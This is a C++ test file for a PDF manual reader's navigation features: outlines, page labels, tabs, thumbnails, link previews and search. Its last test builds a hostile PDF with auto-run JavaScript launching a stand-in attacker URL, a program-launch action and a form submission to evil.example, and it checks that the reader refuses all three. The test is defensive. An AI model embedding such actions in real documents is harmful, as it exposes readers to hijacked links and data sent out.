@@ -1,0 +1,247 @@
+// Getting around in manuals and between them, without the window.
+#include "base/file.hpp"
+#include "journeys/desk.hpp"
+#include "support/pdf_writer.hpp"
+
+#include <doctest/doctest.h>
+
+using namespace jumpseat;
+using namespace jumpseat::app;
+using support::PdfWriter;
+namespace fs = std::filesystem;
+
+namespace {
+
+// Headings in large letters, text in small ones, no outline and no labels.
+std::string headings_only(int pages) {
+  PdfWriter pdf;
+  for (int i = 1; i <= pages; ++i) {
+    std::string content = PdfWriter::text(72, 720, "Chapter " + std::string(static_cast<std::size_t>(i), 'x'), 24);
+    for (int line = 0; line < 12; ++line)
+      content += PdfWriter::text(72, 680 - 16 * line, "most of what looks unusual has an ordinary reason", 11);
+    pdf.add_page(content);
+  }
+  return pdf.finish();
+}
+
+fs::path write(support::Desk& desk, const std::string& name, const std::string& bytes) {
+  const fs::path path = desk.folder() / name;
+  REQUIRE(base::write_file_whole(path, bytes));
+  return path;
+}
+
+void open(support::Desk& desk, const fs::path& path) {
+  desk.ask(command::OpenFile{path.string(), std::nullopt, {}});
+  REQUIRE(desk.view().reading.state == ReadingView::State::open);
+  REQUIRE(desk.until([&] { return desk.view().reading.imported_pages == desk.view().reading.page_count; }));
+  desk.settle();
+}
+
+std::vector<std::string> titles(const ReadingView& view) {
+  std::vector<std::string> out;
+  for (const TabView& tab : view.tabs) out.push_back(tab.title + (tab.current ? " *" : ""));
+  return out;
+}
+
+}  // namespace
+
+TEST_CASE("a manual without contents gets them from its headings, and they lead there") {
+  support::Desk desk;
+  const fs::path path = write(desk, "plain.pdf", headings_only(6));
+  for (int time = 0; time < 2; ++time) {
+    CAPTURE(time);
+    open(desk, path);
+    REQUIRE(desk.until([&] { return !desk.view().reading.outline.empty(); }));
+    const auto rows = desk.view().reading.outline.rows;
+    REQUIRE(rows->size() == 6);
+    CHECK(rows->at(3).title == "Chapter xxxx");
+    desk.ask(command::GoToPage{rows->at(3).page, rows->at(3).y_pt});
+    CHECK(desk.app().state().page == 4);
+    CHECK(desk.view().reading.outline.current == 3);
+    desk.come_back();
+  }
+}
+
+TEST_CASE("where a file has no labels its reader says which number is printed, once") {
+  support::Desk desk;
+  const fs::path path = write(desk, "plain.pdf", headings_only(12));
+  open(desk, path);
+  desk.ask(command::GoToPage{{6}});
+  desk.ask(command::ShowPrintedPage{});
+  CHECK(desk.view().shell.dialog.kind == DialogKind::printed_page);
+  desk.ask(command::SetPrintedPage{"three"});
+  CHECK(desk.view().shell.dialog.problem == "Type the number that is printed on this page, such as 12.");
+  desk.ask(command::SetPrintedPage{"3"});
+  CHECK(desk.view().shell.dialog.kind == DialogKind::none);
+  CHECK(desk.app().state().page_label == "3");
+  desk.ask(command::FirstPage{});
+  CHECK(desk.app().state().page_label == "i");
+  desk.ask(command::GoToLabel{"8"});
+  CHECK(desk.app().state().page == 12);
+  desk.come_back();
+  open(desk, path);
+  CHECK(desk.app().state().page_label == "8");
+  desk.ask(command::SearchFor{"xxxxx"});
+  REQUIRE(desk.until([&] { return !desk.view().reading.search.hits.empty(); }));
+  CHECK(desk.view().reading.search.hits.front().label.value == "1");  // on page 5
+}
+
+TEST_CASE("several manuals are open in tabs, each where it was left, and all are there at the next start") {
+  support::Desk desk;
+  const fs::path one = write(desk, "one.pdf", headings_only(9)), two = write(desk, "two.pdf", headings_only(5));
+  open(desk, one);
+  desk.ask(command::GoToPage{{4}});
+  CHECK(titles(desk.view().reading) == std::vector<std::string>{"one.pdf *"});
+  open(desk, two);
+  desk.ask(command::GoToPage{{2}});
+  CHECK(titles(desk.view().reading) == std::vector<std::string>{"one.pdf", "two.pdf *"});
+  desk.ask(command::ShowTab{0});
+  CHECK(desk.app().state().page == 5);
+  CHECK(desk.view().reading.can_go_back);
+  desk.ask(command::Back{});
+  CHECK(desk.app().state().page == 1);
+  desk.ask(command::NextTab{});
+  CHECK(desk.app().state().page == 3);
+  open(desk, one);  // is open already
+  CHECK(titles(desk.view().reading) == std::vector<std::string>{"one.pdf *", "two.pdf"});
+  desk.come_back();
+  desk.ask(command::ShowScreen{Screen::read});
+  REQUIRE(desk.until([&] { return desk.view().reading.state == ReadingView::State::open; }));
+  desk.settle();
+  CHECK(titles(desk.view().reading) == std::vector<std::string>{"one.pdf *", "two.pdf"});
+  desk.ask(command::CloseManual{});
+  CHECK(titles(desk.view().reading) == std::vector<std::string>{"two.pdf *"});
+  CHECK(desk.app().state().page == 3);
+  desk.ask(command::CloseTab{0});
+  CHECK(desk.view().reading.tabs.empty());
+  CHECK(desk.view().reading.state == ReadingView::State::none);
+}
+
+TEST_CASE("thumbnails come for the pages that are asked for, and no more than a few megabytes are held") {
+  support::Desk desk;
+  open(desk, write(desk, "plain.pdf", headings_only(40)));
+  desk.ask(command::ShowThumbnails{10, 15});
+  const auto drawn = [&] {
+    std::size_t count = 0;
+    for (const ThumbView& thumb : desk.view().reading.thumbs) count += thumb.image != 0;
+    return count;
+  };
+  REQUIRE(desk.until([&] { return drawn() == 6; }));
+  const ThumbView& thumb = desk.view().reading.thumbs.front();
+  CHECK(thumb.page == model::PageIndex{10});
+  CHECK(thumb.w <= 97);
+  CHECK(thumb.h <= 129);
+  CHECK(thumb.h > 100);
+  desk.ask(command::ShowThumbnails{0, -1});
+  CHECK(desk.view().reading.thumbs.empty());
+}
+
+TEST_CASE("while the mouse rests on a link, what it leads to is shown") {
+  support::Desk desk;
+  PdfWriter pdf;
+  const int target = 8;  // the object of the second page, see below
+  const int link = pdf.add("<</Type/Annot/Subtype/Link/Rect[72 690 200 710]/Dest[" + PdfWriter::ref(target) + "/XYZ 0 500 0]>>");
+  pdf.add_page(PdfWriter::text(72, 695, "see page 2"), "/MediaBox[0 0 612 792]/Annots[" + PdfWriter::ref(link) + "]");
+  REQUIRE(pdf.add_page(PdfWriter::text(72, 490, "The target")) == target);
+  open(desk, write(desk, "links.pdf", pdf.finish()));
+  REQUIRE(desk.until([&] { return !desk.view().reading.pages.front().links.empty(); }));
+  desk.ask(command::PreviewLink{{0}, 0});
+  CHECK_FALSE(desk.view().reading.preview);
+  desk.clock().advance_ms(300);
+  REQUIRE(desk.until([&] { return desk.view().reading.preview.has_value(); }));
+  CHECK(desk.view().reading.preview->label == "Page 2");
+  CHECK(desk.view().reading.preview->w == 360);
+  CHECK(desk.view().reading.preview->h == 200);
+  desk.ask(command::PreviewLink{{-1}, -1});
+  CHECK_FALSE(desk.view().reading.preview);
+}
+
+TEST_CASE("how pages lie is kept with the manual: pairs with a cover, one at a time, fitted to the text") {
+  support::Desk desk;
+  const fs::path path = write(desk, "plain.pdf", headings_only(9));
+  open(desk, path);
+  desk.ask(command::SetSpread{Spread::cover_and_pairs});
+  desk.ask(command::GoToPage{{3}});
+  desk.ask(command::SetFit{Fit::page});
+  desk.ask(command::TogglePaged{});
+  REQUIRE(desk.view().reading.pages.size() == 2);
+  CHECK(desk.view().reading.pages[0].page == model::PageIndex{3});
+  CHECK(desk.view().reading.pages[0].on_canvas.y == desk.view().reading.pages[1].on_canvas.y);
+  desk.ask(command::ScrollBy{0, 90, true});
+  CHECK(desk.view().reading.pages[0].page == model::PageIndex{5});
+  desk.ask(command::NextPage{});
+  CHECK(desk.view().reading.pages[0].page == model::PageIndex{7});
+  desk.ask(command::PreviousPage{});
+  desk.come_back();
+  open(desk, path);
+  CHECK(desk.view().reading.spread == Spread::cover_and_pairs);
+  CHECK(desk.view().reading.paged);
+  CHECK(desk.view().reading.pages.front().page == model::PageIndex{5});
+  desk.ask(command::SetSpread{Spread::single});
+  desk.ask(command::TogglePaged{});
+  desk.ask(command::SetFit{Fit::width});
+  const double by_width = *desk.app().state().zoom;
+  desk.ask(command::SetFit{Fit::content});
+  REQUIRE(desk.until([&] { return *desk.app().state().zoom > 1.1 * by_width; }));
+  desk.settle();
+  for (const model::Rect& line : desk.view().reading.pages.front().text_lines) {
+    CHECK(line.x >= 0);
+    CHECK(line.x + line.w <= 640);
+  }
+}
+
+TEST_CASE("search takes patterns and says where one is wrong") {
+  support::Desk desk;
+  open(desk, write(desk, "plain.pdf", headings_only(6)));
+  desk.ask(command::SearchOptions{false, false, false, true});
+  desk.ask(command::SearchFor{"Chapter x{4,5}$?"});
+  REQUIRE(desk.until([&] { return !desk.view().reading.search.running && !desk.view().reading.search.hits.empty(); }));
+  CHECK(desk.view().reading.search.hits.size() == 3);
+  desk.ask(command::SearchFor{"(never closed"});
+  REQUIRE(desk.until([&] { return !desk.view().reading.search.problem.empty(); }));
+  CHECK(desk.view().reading.search.hits.empty());
+}
+
+TEST_CASE("a link that leaves the manual shows its address and asks; scripts, programs and other files are never followed") {
+  support::Desk desk;
+  PdfWriter pdf;
+  const int script = pdf.add("<</S/JavaScript/JS(app.launchURL\\(\"http://evil.example\"\\))>>");
+  std::string annotations;
+  int row = 0;
+  for (const char* action : {"/S/URI/URI(https://example.org/report)", "/S/Launch/F(/bin/true)", "/S/GoToR/F(other.pdf)/D[0/Fit]",
+                             "/S/JavaScript/JS(app.alert\\(1\\))", "/S/SubmitForm/F(http://evil.example)"}) {
+    const int y = 700 - 30 * row++;
+    annotations += PdfWriter::ref(pdf.add("<</Type/Annot/Subtype/Link/Rect[72 " + std::to_string(y) + " 300 " + std::to_string(y + 20) +
+                                          "]/A<<" + action + ">>>>")) +
+                   " ";
+  }
+  pdf.add_page(PdfWriter::text(72, 600, "links"),
+               "/MediaBox[0 0 612 792]/Annots[" + annotations + "]/AA<</O " + PdfWriter::ref(script) + ">>");
+  pdf.put_in_catalog("/OpenAction " + PdfWriter::ref(script));
+  const fs::path path = write(desk, "hostile.pdf", pdf.finish());
+  open(desk, path);
+  REQUIRE(desk.until([&] { return !desk.view().reading.pages.front().links.empty(); }));
+  const auto links = desk.view().reading.pages.front().links;
+  REQUIRE(links.size() >= 3);
+  int asked = 0;
+  for (const LinkView& link : links) {
+    desk.ask(command::FollowLink{{0}, link.index});
+    const DialogView dialog = desk.view().shell.dialog;
+    REQUIRE(dialog.kind == DialogKind::external_link);
+    if (dialog.title == "This link leaves the manual") {
+      ++asked;
+      CHECK(dialog.text == "https://example.org/report");
+      CHECK(dialog.accept == "Copy the address");
+      desk.app().take_clipboard();
+      desk.ask(command::AcceptDialog{});
+      CHECK(desk.app().take_clipboard().value_or("") == "https://example.org/report");
+    } else {
+      CHECK(dialog.title == "Jumpseat does not follow this link");
+      CHECK(dialog.accept.empty());
+      desk.ask(command::AcceptDialog{});
+    }
+    CHECK(desk.app().state().manual == "hostile.pdf");
+    CHECK(desk.view().reading.tabs.size() == 1);
+  }
+  CHECK(asked == 1);
+}
